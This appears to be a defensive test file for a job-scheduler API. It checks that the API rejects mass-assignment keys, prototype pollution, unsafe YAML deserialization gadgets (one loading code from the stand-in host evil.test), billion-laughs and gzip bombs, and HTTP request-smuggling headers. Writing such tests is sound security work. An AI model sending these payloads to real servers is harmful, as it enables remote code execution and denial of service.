import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { fileScope } from '../../../support/testEngine.ts';
import { askRaw, type HeardAnswer } from '../../world/askRaw.ts';
import { openSocket, readToEnd, requestText, sendRaw } from '../../world/rawRequest.ts';
import { makeRouteWorld } from '../../world/routeWorld.ts';
import { tableChecksums } from '../../world/tableChecksums.ts';

const world = await makeRouteWorld(fileScope);
const { origin } = world;
const token = world.tokenOf('admin');
const words = { cron: '0 0 1 1 *', command: 'true' };

function post(path: string, text: string | Uint8Array, more: Record<string, string> = {}) {
  const headers = { 'content-type': 'application/json', 'if-match': '*', ...more };
  return askRaw(origin, { method: 'POST', path, token, headers, body: text });
}

/** What is refused is refused whole. */
async function requireRefused(
  ask: () => Promise<HeardAnswer>,
  statuses: readonly number[],
  told: string,
): Promise<HeardAnswer> {
  const before = await tableChecksums(world);
  const answer = await ask();
  assert.ok(statuses.includes(answer.status), `${told}: ${answer.status} ${answer.text}`);
  assert.deepEqual(await tableChecksums(world), before, told);
  return answer;
}

describe('Cronicle CVE-2026-58255: unknown keys', () => {
  const keys = ['uid', 'gid', 'x', 'id', 'jobId', 'revision', 'isAdmin', 'plugin', 'runAs'];
  for (const { method, path, body } of world.description.operations) {
    if (body === null) continue;
    test(`are refused by ${method} ${path}, each by its name`, async () => {
      const sample = world.sample({ method, path, role: undefined });
      const whole = { ...(JSON.parse(String(sample.body ?? '{}')) as object) };
      for (const key of keys) {
        const text = JSON.stringify({ ...whole, [key]: 0 });
        const headers = { 'content-type': 'application/json', 'if-match': '*' };
        const { status, json } = await askRaw(origin, { ...sample, token, headers, body: text });
        assert.equal(status, 422, `${key}: ${JSON.stringify(json)}`);
        const fields = (json.errors as { field: string }[]).map(({ field }) => field);
        assert.ok(
          fields.some((field) => field.includes(key) || /line 1/.test(field)),
          `${fields}`,
        );
      }
    });
  }

  test('are refused below the first level and in the query', async () => {
    for (const path of ['/api/v1/jobs?uid=0', '/api/v1/runs?format=html', '/api/v1/audit?x=']) {
      assert.equal((await askRaw(origin, { method: 'GET', path, token })).status, 422, path);
    }
    const plan = JSON.stringify({ jobs: { a: { ...words, uid: 0 } } });
    await requireRefused(() => post('/api/v1/apply', plan), [422], 'a job of a file');
  });
});

describe('prototype pollution', () => {
  const shapes = [
    '{"__proto__":{"x":1},"name":"p","cron":"@daily","command":"true"}',
    '{"constructor":{"prototype":{"x":1}},"name":"p","cron":"@daily","command":"true"}',
    '{"name":"p","cron":"@daily","command":"true","env":{"__proto__":{"x":"1"}}}',
    '{"name":"p","cron":"@daily","command":"true","env":{"\\u005f_proto__":"1"}}',
    '[{"__proto__":{"x":1}}]',
    '{"jobs":{"__proto__":{"cron":"@daily","command":"true"}}}',
    '{"jobs":{"a":{"cron":"@daily","command":"true","env":{"__proto__":"x"}}}}',
  ];
  test('is refused wherever such a key stands, and leaves no trace', async () => {
    for (const path of ['/api/v1/jobs', '/api/v1/apply', '/api/v1/plan', '/api/v1/tokens']) {
      for (const shape of shapes) {
        await requireRefused(() => post(path, shape), [400, 422], `${path} ${shape}`);
      }
    }
    for (const query of ['__proto__=1', '__proto__[x]=1', 'constructor.prototype.x=1']) {
      const path = `/api/v1/jobs?${query}`;
      const { status } = await askRaw(origin, { method: 'GET', path, token });
      // The first of them is no key of anything: it is not there.
      assert.ok(status === 422 || status === 200, `${path}: ${status}`);
    }
    assert.equal(({} as { x?: unknown }).x, undefined);
    assert.equal(({} as { cron?: unknown }).cron, undefined);
  });

  test('names of things may be those words, and mean nothing', async () => {
    for (const name of ['__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
      const path = `/api/v1/jobs/${name}`;
      const { status } = await askRaw(origin, { method: 'GET', path, token });
      assert.equal(status, 404, name);
      const job = JSON.stringify({ name, ...words });
      const added = await post('/api/v1/jobs', job);
      assert.ok([201, 400, 422].includes(added.status), `${name}: ${added.text}`);
    }
    const list = await askRaw(origin, { method: 'GET', path: '/api/v1/jobs?full=true', token });
    assert.equal(list.status, 200);
  });
});

describe('Rundeck CVE-2021-39132: a file of jobs', () => {
  const files = {
    'a function':
      'jobs:\n  a:\n    cron: "@daily"\n    command: !!js/function "function(){return 1}"\n',
    'code to be run': 'jobs: !!js/eval "process.exit(1)"\n',
    'an expression': 'jobs:\n  a: !!js/regexp /a/\n',
    'an object of a class': 'jobs: !!python/object/apply:os.system ["true"]\n',
    'an object of Java':
      '!!javax.script.ScriptEngineManager [!!java.net.URL ["http://evil.test/"]]\n',
    'a tag of its own': '!<tag:yaml.org,2002:js/function> "x"\n',
    'a thousand millions of laughs': laughs(),
    'an anchor that is in itself': 'jobs: &a\n  b: *a\n',
    'a merge of another': 'jobs:\n  a: &a {cron: "@daily", command: "true"}\n  b:\n    <<: *a\n',
    'two documents': 'jobs: {}\n---\njobs: {}\n',
    'ten thousand brackets': `jobs: ${'['.repeat(10_000)}`,
    'a prototype': 'jobs:\n  __proto__:\n    cron: "@daily"\n    command: "true"\n    uid: 0\n',
  };
  for (const [what, text] of Object.entries(files)) {
    test(`with ${what} in it is refused, and nothing of it is done`, async () => {
      for (const path of ['/api/v1/plan', '/api/v1/apply']) {
        const ask = () => post(path, text, { 'content-type': 'application/yaml' });
        const { json } = await requireRefused(ask, [400, 422], `${path} ${what}`);
        assert.ok(json.detail.length < 2_000, 'the answer is no echo');
      }
    });
  }
});

function laughs(): string {
  const lines = ['a0: &a0 ["lol"]'];
  for (let level = 1; level < 10; level += 1) {
    const items = Array.from({ length: 10 }, () => `*a${level - 1}`);
    lines.push(`a${level}: &a${level} [${items.join(', ')}]`);
  }
  return `${lines.join('\n')}\njobs: *a9\n`;
}

test('a body of more than 256 KB is cut off while it comes in, said or not', async () => {
  const long = JSON.stringify({ name: 'long', ...words, command: `: ${'x'.repeat(300_000)}` });
  await requireRefused(() => post('/api/v1/jobs', long), [413], 'with its length');
  const head = [
    ...['Host: localhost', `Authorization: Bearer ${token}`, 'Content-Type: application/json'],
    'Transfer-Encoding: chunked',
  ];
  const socket = await openSocket(origin);
  const chunk = `4000\r\n${'x'.repeat(16_384)}\r\n`;
  const answered = readToEnd(socket, requestText('POST /api/v1/jobs', head));
  let sent = 0;
  const feed = (error?: Error | null): void => {
    if (error != null || sent > 10_000_000) return;
    sent += 16_384;
    socket.write(chunk, feed);
  };
  feed();
  const { status } = await answered;
  assert.equal(status, 413);
  // What lies in the buffers of both sides was sent, and not taken in.
  assert.ok(sent < 10_000_000, `${sent} bytes were taken`);
  const most = JSON.stringify({ name: 'most', ...words, command: `: ${'x'.repeat(255_000)}` });
  assert.equal((await post('/api/v1/jobs', most)).status, 201);
});

test('a body that was packed is refused, before anybody unpacks it', async () => {
  const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024, ' '));
  for (const coding of ['gzip', 'deflate', 'br', 'zstd', 'x-gzip', 'gzip, identity']) {
    const ask = () => post('/api/v1/jobs', bomb, { 'content-encoding': coding });
    await requireRefused(ask, [415], coding);
  }
});

test('two lengths, and a length beside chunks, are no request', async () => {
  const head = ['Host: localhost', `Authorization: Bearer ${token}`];
  head.push('Content-Type: application/json');
  const smuggled = [
    ['Content-Length: 2', 'Content-Length: 60'],
    ['Content-Length: 2', 'Transfer-Encoding: chunked'],
    ['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'],
    ['Transfer-Encoding: xchunked'],
    ['Content-Length: +2'],
    ['Content-Length: 0x2'],
  ];
  for (const more of smuggled) {
    const text = requestText('POST /api/v1/plan', [...head, ...more], '{}GET /livez HTTP/1.1\r\n');
    const answer = await sendRaw(origin, text);
    assert.equal(answer.status, 400, more.join(', '));
    assert.equal(answer.text.match(/HTTP\/1\.1 \d{3}/g)?.length, 1, more.join(', '));
  }
});

test('what is too deep, half, or no JSON at all is refused', async () => {
  const texts = [
    '{',
    '',
    'null',
    '[]',
    '0',
    '"x"',
    '{"a":}',
    '\ufeff{}',
    '{"name":"\ud800"}',
    'NaN',
  ];
  texts.push(`${'['.repeat(100_000)}${']'.repeat(100_000)}`, `${'{"a":'.repeat(40_000)}1`);
  for (const text of texts) {
    const told = text.slice(0, 20);
    await requireRefused(() => post('/api/v1/jobs', text), [400, 413, 422], told);
  }
});
